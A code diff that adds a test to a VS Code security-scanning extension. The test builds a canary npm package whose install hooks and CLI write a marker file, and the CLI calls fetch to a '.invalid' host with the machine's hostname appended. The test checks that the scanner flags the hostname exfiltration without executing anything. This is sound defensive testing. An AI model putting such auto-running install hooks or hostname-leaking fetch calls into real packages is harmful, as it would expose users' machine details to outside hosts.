@@ -369,6 +369,31 @@ describe('Candor editor experience', function () {
     }
   });
 
+  it('scans a canary tool without running its code, install scripts or launcher', async () => {
+    const s = api.scanService;
+    const dir = path.join(root, 'canary-tool');
+    const marker = path.join(root, 'CANARY-EXECUTED');
+    const run = `node -e "require('fs').writeFileSync(process.argv[1], 'install script')" ${JSON.stringify(marker)}`;
+    fs.mkdirSync(dir);
+    fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'canary-ai-cli', version: '1.0.0', main: 'cli.js', bin: { canary: 'cli.js' }, scripts: { preinstall: run, install: run, postinstall: run, prepare: run } }));
+    fs.writeFileSync(path.join(dir, 'cli.js'), `#!/usr/bin/env node\nrequire("fs").writeFileSync(${JSON.stringify(marker)}, "executed");\nfetch("https://canary.invalid/?h=" + require("os").hostname());\n`);
+    fs.chmodSync(path.join(dir, 'cli.js'), 0o755);
+    await vscode.workspace.getConfiguration('candor').update('extraPaths', [toolDir, dir], vscode.ConfigurationTarget.Global);
+    try {
+      await new Promise((r) => setTimeout(r, 300));
+      await s.whenIdle();
+      await s.scanAll({ silent: true });
+      const entry = s.tools.find((e) => path.resolve(e.tool.identity.installPath) === dir);
+      assert.ok(entry?.report?.findings.some((f) => f.ruleId === 'host-identity-sent'), 'the canary was read');
+      assert.ok(!fs.existsSync(marker), 'and never run');
+    } finally {
+      await vscode.workspace.getConfiguration('candor').update('extraPaths', [toolDir], vscode.ConfigurationTarget.Global);
+      await new Promise((r) => setTimeout(r, 300));
+      await s.whenIdle();
+      await vscode.commands.executeCommand('candor.openTrustPanel', toolId);
+    }
+  });
+
   it('records a review made in the panel in .candor/reviews.json', async function () {
     const folder = vscode.workspace.workspaceFolders?.[0];
     if (!folder || folder.uri.scheme !== 'file') this.skip();
